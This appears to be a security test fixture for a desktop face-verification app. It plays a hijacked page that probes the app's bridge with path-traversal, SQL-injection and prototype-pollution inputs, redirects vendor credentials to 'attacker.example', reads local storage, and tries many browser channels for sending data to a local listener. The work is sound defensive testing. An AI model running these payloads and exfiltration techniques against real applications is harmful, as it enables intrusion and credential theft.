/**
 * What somebody would try who has taken the window's page over. The test puts it in the place of the program's own script,
 * tells it by the address where its own server listens, and reads what it writes into the page.
 */
const { facedesk } = window;
const found = { names: [], reach: [], answers: [], plausible: {}, garbage: {}, tried: [], pressed: [] };
const id = '00000000-0000-4000-8000-000000000000';

/** Everything as text, bytes too: a secret may lie in any of it. */
const textOf = (value) =>
  JSON.stringify(value, (_key, part) => (part instanceof Uint8Array ? new TextDecoder('latin1').decode(part) : part));
const note = (value) => found.answers.push(textOf(value) ?? 'undefined');

async function call(name, argument) {
  const [domain, method] = name.split('.');
  try {
    const answer = await Promise.race([
      facedesk[domain][method](...(Array.isArray(argument) ? argument : [argument])),
      new Promise((resolve) => setTimeout(resolve, 10_000, { ok: false, error: { code: 'no answer' } })),
    ]);
    note(answer);
    return answer.ok ? 'ok' : answer.error.code;
  } catch (error) {
    note(String(error));
    return 'thrown';
  }
}

/** Every function that can be reached from the bridge, by whatever way. */
function walk(value, path, seen = new Set()) {
  if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) return;
  if ([Object.prototype, Function.prototype].includes(value)) return;
  seen.add(value);
  if (typeof value === 'function') found.reach.push(path.slice(1));
  for (const key of Reflect.ownKeys(value)) {
    if (typeof value === 'function' && ['length', 'name', 'prototype', 'arguments', 'caller'].includes(key)) continue;
    walk(Reflect.getOwnPropertyDescriptor(value, key)?.value, `${path}.${String(key)}`, seen);
  }
  walk(Reflect.getPrototypeOf(value), `${path}.__proto__`, seen);
}

const everything = { text: '', mode: null, kind: null, result: null, caseId: null, from: null, until: null };
const query = { ...everything, before: null, limit: 50 };
const details = { reference: 'X-1', name: 'X', note: '', place: '' };
const lane = { vendor: 'cashfree', mode: 'production' };
const reviewer = { name: 'X', code: '' };
const settings = {
  ...{ livenessPolicy: null, matchPolicy: { threshold: 0.75 }, agent: reviewer, organisation: '' },
  ...{ logo: null, reportLanguage: 'en' },
};
const measures = { faces: [], brightness: 0.5, sharpness: 0.03 };
const longPassphrase = 'a passphrase of the attacker';
const keep = { ...lane, clientId: null, clientSecret: null, publicKey: { kind: 'asItIs' }, defaultCustomerIp: '' };

/** What makes sense to each call that takes something; the last ones break the most. */
function plausible(check, session) {
  const lookup = { sessionId: session, customerIp: '8.8.8.8' };
  const match = { firstPicture: { from: 'file', picture: id }, secondPicture: id, threshold: 0.75 };
  const file = new File([new Uint8Array(9)], '../../../../tmp/facedesk-hostile');
  return {
    'program.switchMode': { mode: 'practice', productionAgreed: false },
    'program.protectContent': { isOn: false },
    'program.surroundings': { asksVendors: true },
    'program.rememberCamera': { name: 'X' },
    'program.reportFault': { where: 'page', name: 'Error', stack: 'at file:///etc/passwd:1:1' },
    'page.keep': { key: '__proto__', value: 'X' },
    'checks.lookUpLiveness': { ...lookup, caseReference: '' },
    'checks.matchFaces': { ...match, verificationId: 'X-1', caseReference: '' },
    'checks.read': { id: check },
    'checks.sendNow': { id: check },
    'checks.editLookup': { ...lookup, id: check },
    'checks.editMatch': { ...match, id: check },
    'checks.askAgain': { id: check },
    'checks.consent': { id: check },
    'checks.addNote': { id: check, text: 'X' },
    'checks.review': { id: check, decision: 'accepted', reason: 'X', reviewer },
    'checks.see': { ids: [check] },
    'outbox.pause': { lane: null },
    'outbox.resume': { lane: null },
    'outbox.setAtATime': { atATime: 4 },
    'outbox.setMatchesAMinute': { matchesAMinute: 100 },
    'history.search': query,
    'cases.list': { text: '', list: 'all', todayFrom: new Date().toISOString() },
    'cases.read': { id },
    'cases.create': { ...details, visitedAt: null, consent: null },
    'cases.change': { id, details: { ...details, visitedAt: null } },
    'cases.setConsent': { id, consent: null },
    'cases.count': { id, kind: 'faceMatch', check: null },
    'cases.skip': { id, step: 'liveness', reason: null },
    'cases.review': { id, decision: 'accepted', reason: '', reviewer, counted: { lookup: null, match: null } },
    'settings.keep': settings,
    'reports.save': { of: { kind: 'check', id: check }, withPictures: true, masked: false, language: 'en' },
    'reports.export': { format: 'json', query },
    'reports.verify': { bytes: new Uint8Array(9) },
    'reports.actOnFile': { how: 'open' },
    'signing.importKey': { file: new Uint8Array(9), passphrase: '' },
    'signing.importCertificate': { file: new Uint8Array(9) },
    'signing.forgetCertificate': { fingerprint: 'X' },
    'records.verify': { printedHead: null },
    'records.backUp': { passphrase: longPassphrase },
    'records.restore': { passphrase: longPassphrase },
    'pictures.add': [file, { width: 1, height: 1, isPartial: false }, null],
    'pictures.read': { id },
    'pictures.keepMeasures': { id, measures },
    'practice.takePortrait': { portrait: 'asha-1' },
    'practice.setOffline': { offline: false },
    'vault.unlock': { passphrase: longPassphrase },
    'vault.unlockWithRecoveryCode': { code: 'X' },
    'vault.protectWithPassphrase': { passphrase: longPassphrase, current: longPassphrase },
    'credentials.keep': { ...keep, baseUrl: 'https://attacker.example/verification', keepIn: 'vault' },
    'credentials.test': { vendor: 'instantPay', mode: 'sandbox' },
    'clipboard.write': { text: 'X' },
    'links.open': { link: 'cashfreePage' },
    'checks.stop': { id: check, evenIfSending: true },
    'checks.close': { id: check },
    'checks.remove': { id, reason: 'mistake' },
    'cases.erase': { id, reason: 'mistake' },
    'credentials.remove': { vendor: 'instantPay', mode: 'sandbox' },
  };
}

const garbage = () => [
  '../../../../etc/passwd',
  { path: '/etc/passwd', file: 'file:///etc/passwd', id: '../../vault.json' },
  { id: "' or 1=1 --", key: 1, link: 'file:///etc/passwd', how: '/bin/sh' },
  JSON.parse('{"__proto__":{"ok":true},"constructor":{"prototype":{}}}'),
  [[{}]],
  { passphrase: 'x'.repeat(100_000) },
  { bytes: new Uint8Array(3), byteLength: -1, name: '/etc/passwd', file: new Uint8Array(3) },
  Number.NaN,
];

async function tryCalls(names, check, session) {
  const known = plausible(check, session);
  const last = Object.keys(known);
  const ordered = [...names].sort((one, other) => last.indexOf(one) - last.indexOf(other));
  for (const name of ordered) {
    found.garbage[name] = [];
    for (const argument of garbage()) found.garbage[name].push(await call(name, argument));
  }
  for (const name of ordered) found.plausible[name] = await call(name, known[name] ?? {});
}

const tryOne = async (what, attempt) => {
  const limit = new Promise((resolve) => setTimeout(resolve, 1_000, 'nothing came'));
  const outcome = await Promise.race([Promise.resolve().then(attempt), limit]).then(
    (value) => `came to ${value}`,
    (error) => `failed: ${error?.name}`,
  );
  found.tried.push(`${what} ${outcome}`);
};

function put(tag, attributes) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  document.body.append(element);
  return new Promise((resolve, reject) => {
    element.addEventListener('load', () => resolve('loaded'));
    element.addEventListener('error', () => reject(new Error('refused')));
    setTimeout(resolve, 300, 'silence');
  });
}

async function tryWaysOut(http, udp) {
  for (const origin of [`http://127.0.0.1:${http}`, `http://localhost:${http}`, `https://127.0.0.1:${http}`]) {
    const to = (path) => `${origin}/${path}`;
    const socket = origin.replace('http', 'ws');
    const ways = {
      fetch: () => fetch(to('fetch'), { mode: 'no-cors' }),
      'keepalive fetch': () => fetch(to('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
      XMLHttpRequest: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = reject;
          request.open('POST', to('xhr'));
          request.send('x');
        }),
      beacon: () => navigator.sendBeacon(to('beacon'), 'x'),
      WebSocket: () =>
        new Promise((resolve, reject) => {
          const opened = new WebSocket(socket);
          opened.onopen = resolve;
          opened.onerror = reject;
        }),
      EventSource: () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(to('events'));
          source.onopen = resolve;
          source.onerror = reject;
        }),
      WebTransport: () => new WebTransport(to('transport').replace('http:', 'https:')).ready,
      Worker: () => new Worker(to('worker.js')).constructor.name,
      'blob worker': () => new Worker(URL.createObjectURL(new Blob([`fetch('${to('blob')}')`]))).constructor.name,
      ServiceWorker: () => navigator.serviceWorker.register(to('service.js')),
      import: () => import(to('module.js')),
      font: () => new FontFace('x', `url(${to('font.woff2')})`).load(),
      'CSS import': () =>
        new CSSStyleSheet().replace(`@import url(${to('import.css')}); a{background:url(${to('b')})}`),
      'CSS picture': () => {
        document.body.style.backgroundImage = `url(${to('background.png')})`;
      },
      'form, sent': () => {
        const form = document.createElement('form');
        form.action = to('form');
        form.method = 'post';
        document.body.append(form);
        form.submit();
      },
      'window.open': () => window.open(to('window')) === null || Promise.reject(new Error('opened')),
      navigation: () => location.assign(to('assign')),
      replacing: () => location.replace(to('replace')),
    };
    await Promise.all(Object.entries(ways).map(([way, attempt]) => tryOne(`${way} ${origin}`, attempt)));
    const elements = [
      ...['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'].map(
        (rel) => ['link', { rel, href: to(rel), as: 'image' }],
      ),
      ...['img', 'iframe', 'script', 'embed', 'video', 'audio', 'input'].map((tag) => [
        tag,
        { src: to(tag), type: tag === 'input' ? 'image' : '' },
      ]),
      ['object', { data: to('object') }],
      ['base', { href: to('base') }],
      ['meta', { 'http-equiv': 'refresh', content: `0;url=${to('refresh')}` }],
      ['iframe', { srcdoc: `<img src="${to('srcdoc')}"><script src="${to('inner.js')}"></script>` }],
      ['iframe', { src: `data:text/html,<img src="${to('data')}">` }],
    ];
    await Promise.all(
      elements.map(([tag, attributes]) => tryOne(`${tag} ${textOf(attributes)}`, () => put(tag, attributes))),
    );
    for (const target of ['', '_blank', '_top']) {
      const link = document.createElement('a');
      Object.assign(link, { href: to('link'), ping: to('ping'), target });
      document.body.append(link);
      link.click();
    }
  }
  await tryOne('WebRTC', async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: `stun:127.0.0.1:${udp}` },
        { urls: `turn:127.0.0.1:${http}?transport=tcp`, username: 'u', credential: 'c' },
      ],
    });
    peer.createDataChannel('out');
    await peer.setLocalDescription();
    await new Promise((resolve) => {
      peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
      if (peer.iceGatheringState === 'complete') resolve();
    });
    peer.close();
  });
}

async function tryPaths() {
  const root = 'app://facedesk';
  const paths = [
    'file:///etc/passwd',
    ...[
      '/../main/main.js',
      '/%2e%2e/main/main.js',
      '/..%2fmain%2fmain.js',
      '/..%5cmain%5cmain.js',
      '/%00',
      '//etc/passwd',
    ].map((path) => root + path),
    ...[
      'app://facedesk/..%2f..%2fpackage.json',
      'app://other/index.html',
      'app://facedesk@other/',
      'app:///etc/passwd',
    ],
    ...['view-source:app://facedesk/', 'chrome://version', 'devtools://devtools/bundled/inspector.html', 'about:blank'],
  ];
  const tryPath = async (path) => {
    await tryOne(`path ${path}`, async () => {
      const answer = await fetch(path);
      note(await answer.text());
      return answer.status;
    });
    for (const tag of ['img', 'iframe']) await tryOne(`${tag} ${path}`, () => put(tag, { src: path }));
    await tryOne(`window ${path}`, () => window.open(path) === null || Promise.reject(new Error('opened')));
  };
  await Promise.all(paths.map(tryPath));
  note([localStorage, sessionStorage, document.cookie, await indexedDB.databases(), await caches.keys()]);
  note(performance.getEntries());
}

/** As soon as somebody presses anything: as much as one press can be made of. */
function chargeByPress(sessions) {
  document.querySelector('button').addEventListener('click', async () => {
    const codes = await Promise.all([
      ...sessions.map((sessionId) =>
        call('checks.lookUpLiveness', { sessionId, customerIp: '8.8.8.8', caseReference: '' }),
      ),
      call('outbox.resume', { lane: null }),
      call('outbox.release', {}),
    ]);
    found.pressed = codes;
    show('pressed');
  });
}

function show(state) {
  document.querySelector('pre').textContent = JSON.stringify(found);
  document.querySelector('main').dataset.state = state;
}

async function attack({ http, udp, sessions, names }) {
  for (const domain of Object.values(facedesk))
    for (const [name, listen] of Object.entries(domain)) if (/^on[A-Z]/.test(name)) listen((content) => note(content));
  const history = await facedesk.history.search(query);
  note(history);
  const check = history.ok ? (history.value.items[0]?.id ?? id) : id;
  await tryPaths();
  show('paths tried');
  await tryWaysOut(http, udp);
  show('ways tried');
  await tryCalls(names, check, sessions[0]);
  chargeByPress(sessions);
  show('done');
}

found.names = Object.getOwnPropertyNames(window);
walk(facedesk, '');
document.body.innerHTML = '<header>Somebody else</header><main><button>Go on</button><pre></pre></main>';
window.addEventListener('hashchange', () => attack(JSON.parse(decodeURIComponent(location.hash.slice(1)))), {
  once: true,
});
